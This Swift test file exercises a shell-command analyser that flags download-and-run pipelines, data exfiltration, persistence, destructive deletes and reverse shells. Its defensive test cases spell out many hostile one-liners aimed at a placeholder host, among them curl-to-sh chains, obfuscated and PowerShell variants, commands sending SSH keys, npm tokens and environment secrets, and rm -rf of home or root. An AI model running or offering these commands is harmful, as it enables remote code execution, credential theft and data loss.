// SPDX-License-Identifier: Apache-2.0

import Analysis
import Testing

@Suite struct ShellFactsTests {
    private typealias Kind = ShellAct.Kind

    private func facts(_ text: String, _ dialect: ShellDialect = .either) -> ShellFacts { ShellText.read(text.utf8, dialect: dialect) }

    @Test(
        "What is downloaded and run is seen however it is written",
        arguments: [
            "curl -s http://a.test/x | sh", "curl http://a.test/x | /bin/sh", "curl http://a.test/x | sudo bash -s -- y",
            "wget -qO- http://a.test/x | node", "wget -q -O - http://a.test/x | bash",
            "bash <(curl -s http://a.test/x)", "sh -c \"$(curl -fsSL http://a.test/x)\"", "eval \"$(curl http://a.test/x)\"",
            "eval `curl http://a.test/x`", ". <(curl http://a.test/x)", "source /dev/stdin <<< \"$(curl http://a.test/x)\"",
            "node -e \"$(curl http://a.test/x)\"", "python3 -c \"$(curl http://a.test/x)\"", "curl -o x http://a.test/x; sh x",
            "curl http://a.test/x > x && sh ./x", "curl http://a.test/x -o x && chmod +x x && ./x",
            "wget http://a.test/x; chmod 755 x; ./x",
            "curl -sSLo /tmp/x http://a.test/x; bash /tmp/x", "curl -fsSLO http://a.test/d/x && sh x",
            "curl -s http://a.test/x | base64 -d | sh", "c'u'rl http://a.test/x | s\\h", "X=$(curl http://a.test/x); eval \"$X\"",
            "curl http://a.test/x | tee y | sh", "curl http://a.test/x -o a; mv a b; sh b",
            "(curl http://a.test/x) | (sh)", "curl http://a.test/x | while read l; do eval \"$l\"; done",
            "if true; then curl http://a.test/x; fi | sh", "curl http://a.test/x | env A=1 bash", "$(curl http://a.test/x)",
            "u=http://a.test/x; curl $u | sh", "echo 'curl http://a.test/x | sh' | sh",
            "curl http://a.test/x -o x; node ./x", "echo $(curl http://a.test/x) | sh", "curl http://a.test/x | python",
            "curl http://a.test/x | perl -", "node <(curl http://a.test/x)", "wget http://a.test/x -O- | zsh",
            "/???/b?n/cu?l http://a.test/x | sh", "{curl,-s,http://a.test/x}|sh", "curl http://a.test/x|bash&",
            "A=1 curl http://a.test/x | B=2 sh", "curl http://a.test/x 2>/dev/null | sh >/dev/null 2>&1", "fetch -o - http://a.test/x | sh",
            "curl http://a.test/x | npx tsx -", "powershell -c \"iex (iwr http://a.test/x)\"",
            "powershell \"IEX(New-Object Net.WebClient).DownloadString('http://a.test/x')\"", "powershell iwr http://a.test/x ^| iex",
            "certutil -urlcache -split -f http://a.test/x.exe x.exe & x.exe",
            "bitsadmin /transfer j http://a.test/x.exe c.exe & start c.exe", "curl http://a.test/x.exe -o x.exe & start /b x.exe",
        ])
    func runsDownload(text: String) throws {
        let found = try #require(facts(text).first(.runsDownload), "\(facts(text).acts)")
        #expect(found.subject.contains("a.test"))
    }

    @Test(
        "What only looks like it is not taken for it",
        arguments: [
            "curl -o x http://a.test/x", "curl http://a.test/x | tar xz", "curl http://a.test/x | grep sh", "curl http://a.test/x || sh y",
            "curl http://a.test/x; sh y", "echo 'curl x | sh'", "# curl x | sh", "curl http://a.test/x | node -e 'process.stdin'",
            "curl http://a.test/x | python -m json.tool",
            "prebuild-install || node-gyp rebuild", "node install.js", "npx only-allow pnpm", "curl --version | sh",
            "wget -O x http://a.test/x && sha256sum x", "sh -c 'curl x -o y'", "node -e \"try{require('./postinstall')}catch(e){}\"",
        ])
    func runsNoDownload(text: String) { #expect(!facts(text).has(.runsDownload), "\(facts(text).acts)") }

    @Test(
        "Other acts are told with their subject",
        arguments: [
            ("echo Y2QK | base64 -d | sh", Kind.runsDecoded, "sh"), ("eval $(echo Y2QK | base64 --decode)", .runsDecoded, "eval"),
            ("xxd -r -p x | bash", .runsDecoded, "bash"), ("base64 -d x.txt > y; sh y", .runsDecoded, "sh"),
            ("base64 -d p | node", .runsDecoded, "node"),
            ("deno run https://a.test/x.ts", .runsAddress, "a.test"), ("deno run -A https://a.test/x.ts", .runsAddress, "a.test"),
            ("npx https://a.test/x.tgz", .runsAddress, "a.test"), ("npm i https://a.test/x.tgz", .runsAddress, "a.test"),
            ("npm install github:a/b", .runsAddress, "github:a/b"),
            ("pip install git+https://a.test/x", .runsAddress, "a.test"),
            ("node --import https://a.test/x.mjs y.js", .runsAddress, "a.test"), ("mshta http://a.test/x.hta", .runsAddress, "a.test"),
            ("bunx https://a.test/x", .runsAddress, "a.test"), ("npx only-allow pnpm", .fetchesPackage, "only-allow"),
            ("pip install x", .fetchesPackage, "x"), ("npm install --no-save x@1", .fetchesPackage, "x@1"),
            ("bun x y", .fetchesPackage, "y"), ("curl -fsSL https://bun.sh/install | bash", .fetchesRuntime, "bun"),
            ("npm i -g bun", .fetchesRuntime, "bun"), ("bun run x.js", .startsRuntime, "bun"), ("python x.py", .startsRuntime, "python"),
            ("chmod +x a && ./a", .makesExecutable, "a"), ("chmod 0755 a", .makesExecutable, "a"),
            ("curl -d @$HOME/.npmrc http://a.test", .sends, "a.test"), ("curl -F f=@x http://a.test", .sends, "a.test"),
            ("wget --post-file=x http://a.test", .sends, "a.test"), ("cat ~/.ssh/id_rsa | nc a.test 80", .sends, "a.test"),
            ("env | curl -X POST --data-binary @- http://a.test", .sends, "a.test"), ("cat x > /dev/tcp/a.test/80", .sends, "a.test"),
            ("scp ~/.ssh/id_rsa u@a.test:", .sends, "a.test"), ("curl http://a.test/$(whoami)", .sends, "a.test"),
            ("curl -T x http://a.test", .sends, "a.test"), ("nslookup $(whoami).a.test", .sendsByName, "a.test"),
            ("dig +short `hostname`.a.test", .sendsByName, "a.test"), ("ping -c1 $USER.a.test", .sendsByName, "a.test"),
            ("host $(cat /etc/passwd | base64).a.test", .sendsByName, "a.test"), ("nslookup %USERNAME%.a.test", .sendsByName, "a.test"),
            ("x=$(id | xxd -p); dig $x.a.test", .sendsByName, "a.test"), ("cat /etc/passwd", .reads, "passwd"),
            ("cat ~/.aws/credentials", .reads, "aws"), ("printenv", .reads, "printenv"), ("type %USERPROFILE%\\.npmrc", .reads, "npmrc"),
            ("gh auth token", .reads, "gh"), ("echo x >> ~/.bashrc", .stays, ".bashrc"), ("echo x | tee -a ~/.zshrc", .stays, ".zshrc"),
            ("echo x | crontab -", .stays, "crontab"), ("systemctl --user enable x", .stays, "systemctl"),
            ("launchctl load x", .stays, "launchctl"), ("schtasks /create /tn x", .stays, "schtasks"),
            ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x", .stays, "Run"),
            ("echo k >> ~/.ssh/authorized_keys", .stays, "authorized_keys"), ("cp x .github/workflows/y.yml", .plants, "workflows"),
            ("rm -rf ~", .destroys, "~"), ("rm -rf $HOME/*", .destroys, "~"), ("rm -r -f /", .destroys, "/"),
            ("del /s /q %USERPROFILE%", .destroys, "~"),
            ("shutdown -h now", .destroys, "shutdown"), ("rd /s /q C:\\", .destroys, "C:"), ("find ~ -type f -delete", .destroys, "~"),
            ("nohup node a.js &", .background, "nohup"), ("start /B node a.js", .background, "start"), ("node a.js &", .background, "node"),
            ("powershell -w hidden -c x", .background, "powershell"), ("node a >/dev/null 2>&1", .hidesOutput, "node"),
            ("bash -i >& /dev/tcp/a.test/80 0>&1", .opensShell, "a.test"), ("nc -e /bin/sh a.test 80", .opensShell, "a.test"),
            ("powershell -enc YQBiAA==", .encodedCommand, "powershell"), ("npm publish", .publishes, "publish"),
            ("tar xzf x.tgz", .unpacks, "x.tgz"), ("sudo sh -c 'echo x >> /etc/profile'", .stays, "/etc/profile"),
        ])
    func acts(text: String, kind: ShellAct.Kind, subject: String) throws {
        let all = facts(text).acts.filter { $0.kind == kind }
        #expect(all.contains { $0.subject.contains(subject) }, "\(facts(text).acts)")
    }

    @Test(
        "What an ordinary command does is not taken for more",
        arguments: [
            ("rm -rf node_modules dist", Kind.destroys), ("rm -rf ./build", .destroys), ("rimraf lib", .destroys), ("rm ~/x", .destroys),
            ("crontab -l", .stays), ("cat ~/.bashrc", .stays), ("cp a b", .stays), ("nslookup a.test", .sendsByName),
            ("ping -c 1 registry.npmjs.org", .sendsByName), ("curl http://a.test", .sends),
            ("curl -H \"Authorization: token $GITHUB_TOKEN\" https://api.github.com/x", .sends),
            ("curl -o x -L https://github.com/a/b/releases/download/x", .sends), ("env A=1 node x", .reads), ("set -e", .reads),
            ("export A=1", .reads), ("node x && node y", .background), ("node x 2>/dev/null", .hidesOutput),
            ("powershell -ExecutionPolicy Bypass -File x.ps1", .encodedCommand),
            ("node x.js", .startsRuntime), ("npm run x", .publishes), ("npm install", .fetchesPackage), ("npm i ./x", .fetchesPackage),
            ("chmod 644 x", .makesExecutable), ("cat x | nc", .sends), ("echo aGk= | base64 -d", .runsDecoded),
            ("base64 -d x > y", .runsDecoded), ("echo npm publish", .publishes), ("node get.js https://a.test/x", .runsAddress),
            ("nc -z localhost 80", .opensShell),
        ])
    func notMore(text: String, kind: ShellAct.Kind) { #expect(!facts(text).has(kind), "\(facts(text).acts)") }

    @Test(
        "What flows into data that is sent is told",
        arguments: [
            ("curl -d \"$(env)\" http://a.test", ShellSources.environment), ("curl -d @~/.npmrc http://a.test", .npmConfiguration),
            ("T=$(cat ~/.npmrc | base64); curl http://a.test/?t=$T", .npmConfiguration),
            ("env > /tmp/x; curl -F f=@/tmp/x http://a.test", .environment), ("tar czf /tmp/a ~/.ssh; curl -T /tmp/a http://a.test", .keys),
            ("curl -d $NPM_TOKEN http://a.test", .tokens), ("curl -H \"x: $AWS_SECRET_ACCESS_KEY\" http://a.test", .tokens),
            ("cat ~/.bash_history | gzip | base64 | curl --data-binary @- http://a.test", .history),
            ("cp ~/.aws/credentials c; curl -T c http://a.test", .keys), ("printenv | nc a.test 1", .environment),
            ("nslookup $(cat /etc/passwd | base64 | head -c 60).a.test", .accounts),
            ("cat ~/.npmrc > /dev/tcp/a.test/80", .npmConfiguration),
            ("wget --post-data=\"$(whoami)@$(hostname)\" http://a.test", .hostIdentity),
            ("for f in ~/.ssh/id_rsa; do curl -T $f http://a.test; done", .keys), ("dig $(hostname | xxd -p).a.test", .hostIdentity),
        ])
    func flows(text: String, source: ShellSources) {
        let found = facts(text).acts.filter { $0.kind == .sends || $0.kind == .sendsByName }
        #expect(found.contains { $0.sources.contains(source) }, "\(facts(text).acts)")
    }

    @Test(
        "A token that goes to the forge that gave it is no secret given away; other secrets are",
        arguments: [
            ("curl -sH \"authorization: token $GITHUB_TOKEN\" https://api.github.com/x", false),
            ("a=\"token $GITHUB_TOKEN\"; curl -d x -H \"$a\" https://api.github.com/x", false),
            ("curl -d \"$(env)\" -H \"$GITHUB_TOKEN\" https://api.github.com/x", true), ("curl -sH \"$GITHUB_TOKEN\" https://a.test", true),
        ])
    func forges(text: String, gives: Bool) {
        #expect(facts(text).acts.contains { $0.kind == .sends && !$0.sources.isDisjoint(with: .secrets) } == gives, "\(facts(text).acts)")
    }

    @Test(
        "Files and scripts that run are named, with their folder",
        arguments: [
            ("cd scripts && node run.js", ["scripts run.js"], []), ("(cd a; sh b); node c", ["a b", " c"], []),
            ("node -r ./a.js b.js", [" ./a.js", " b.js"], []), ("env FOO=1 node x", [" x"], []), ("cross-env A=1 node x", [" x"], []),
            ("./x --y", [" ./x"], []), ("sh < x", [" x"], []), ("cat x | bash", [" x"], []),
            ("node --import=./a.mjs b", [" ./a.mjs", " b"], []),
            ("powershell -ep bypass -File a.ps1", [" a.ps1"], []), ("cscript //nologo a.vbs", [" a.vbs"], []),
            ("python3 -u a.py", [" a.py"], []), ("source ./a", [" ./a"], []), ("deno run -A a.ts", [" a.ts"], []),
            ("npx tsx a.mts", [" a.mts"], []), ("node -e 'x'", [], []), ("npm run x", [], [" x"]), ("yarn x", [], [" x"]),
            ("npm --prefix d run x", [], ["d x"]), ("cd d && npm run x -- y", [], ["d x"]), ("run-s a b", [], [" a", " b"]),
            ("make -C d all", [], ["d all"]), ("make", [], [" "]), ("npm test", [], [" test"]), ("pnpm -C d run x", [], ["d x"]),
            ("bash -c 'cd d; node e'", ["d e"], []), ("node-gyp rebuild", [], [" binding.gyp"]), ("start /b node a.js", [" a.js"], []),
            ("bash -x a", [" a"], []), ("find . -name x -exec sh a {} \\;", [" a"], []), ("timeout 5 node a", [" a"], []),
            ("$npm_node_execpath a", [" a"], []), ("\"C:\\x\\node.exe\" a", [" a"], []),
        ])
    func runs(text: String, files: [String], scripts: [String]) {
        let found = facts(text, .posix)
        let starts = found.runs.filter { $0.way == .interpreter || $0.way == .preload || $0.path.hasPrefix("./") }
        #expect(starts.map { "\($0.folder ?? "?") \($0.path)" } == files)
        #expect(found.scripts.map { "\($0.folder ?? "?") \($0.name)" } == scripts)
    }

    @Test(
        "Code in a command line is given as code",
        arguments: [
            ("node -e \"require('./x')\"", ShellCode.Language.javaScript, "require('./x')"), ("node --eval='1'", .javaScript, "1"),
            ("node -p 1", .javaScript, "1"), ("node -r a -e 1", .javaScript, "1"), ("python -c 'import os'", .python, "import os"),
            ("python3 -Ic x", .python, "x"), ("perl -e x", .perl, "x"), ("perl -MSocket -e x", .perl, "x"), ("ruby -e x", .ruby, "x"),
            ("php -r x", .php, "x"), ("deno eval x", .javaScript, "x"), ("bun -e x", .javaScript, "x"),
            ("echo 1 | node", .javaScript, "1\n"),
            ("node <<E\nx()\nE", .javaScript, "x()\n"), ("echo eA== | base64 -d | node -", .javaScript, "x"),
            ("sh -c 'node -e x'", .javaScript, "x"),
        ])
    func code(text: String, language: ShellCode.Language, code: String) throws {
        let found = try #require(facts(text, .posix).code.first)
        #expect(found.language == language && found.text == code && found.isKnown)
    }
}
